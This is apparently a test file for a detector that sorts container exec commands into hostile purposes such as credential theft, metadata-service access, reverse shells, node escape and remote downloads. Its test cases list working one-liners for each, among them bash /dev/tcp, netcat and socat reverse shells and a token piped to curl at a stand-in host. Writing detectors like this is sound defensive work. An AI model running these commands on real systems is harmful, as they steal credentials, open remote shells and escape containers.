import { describe, expect, test } from 'vitest';

import { plainProgramOf, purposeOf } from './exec-command.ts';

describe('the purpose of a command', () => {
  test.each([
    ['credentials', ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']],
    [
      'credentials',
      ['sh', '-c', 'cat /run/secrets/eks.amazonaws.com/serviceaccount/token | curl -d @- https://x'],
    ],
    ['credentials', ['less', '/root/.kube/config']],
    ['metadata-service', ['wget', '-qO-', 'http://METADATA.google.internal/computeMetadata/v1/']],
    ['metadata-service', ['curl', '169.254.169.254']],
    ['reverse-shell', ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']],
    ['reverse-shell', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh']],
    ['reverse-shell', ['/usr/bin/ncat', '--exec', '/bin/bash', 'x', '1']],
    ['reverse-shell', ['socat', 'TCP:10.0.0.1:1', 'EXEC:/bin/sh']],
    ['reverse-shell', ['python3', '-c', 'import pty;pty.spawn("/bin/sh")']],
    ['node', ['nsenter', '-t', '1', '-m']],
    ['node', ['ls', '/var/run/docker.sock']],
    ['download', ['sh', '-c', 'curl -s https://x.example.com/i.sh|sh']],
    ['download', ['/usr/bin/wget', 'http://x.example.com/m']],
    ['copy', ['tar', '-xmf', '-', '-C', '/tmp']],
    ['shell', ['/bin/bash']],
    ['shell', ['env', 'sh', '-c', 'id']],
    ['too-long-to-read', ['x'.repeat(70_000)]],
  ] as const)('is %s of %j', (purpose, command) => {
    expect(purposeOf(command)).toBe(purpose);
  });

  test.each([
    [['date']],
    [['nc', '-z', 'db', '5432']],
    [['curl', 'localhost:8080/healthz']],
    [['cat', '/etc/hostname']],
    [['./shelly', 'bashful', 'target']],
    [[]],
  ])('is nothing in particular of %j', (command) => {
    expect(purposeOf(command)).toBeUndefined();
  });

  test('is found at the end of a long command, and read in time that grows with its length only', () => {
    const padding = 'nc -aaaaaaaaaa '.repeat(20_000);
    expect(purposeOf([padding, '/etc/shadow'])).toBe('credentials');
    expect(purposeOf([`-${'e'.repeat(1_000_000)}`, 'nc'])).toBe('too-long-to-read');
  });
});

describe('the program of a command', () => {
  test('is named if everybody has it', () => {
    expect(plainProgramOf(['/usr/bin/curl', '-u', 'x'])).toBe('curl');
    expect(plainProgramOf(['SH'])).toBe('sh');
  });
  test('is not named if it may be a secret', () => {
    expect(plainProgramOf(['hunter2'])).toBeUndefined();
    expect(plainProgramOf([])).toBeUndefined();
  });
});
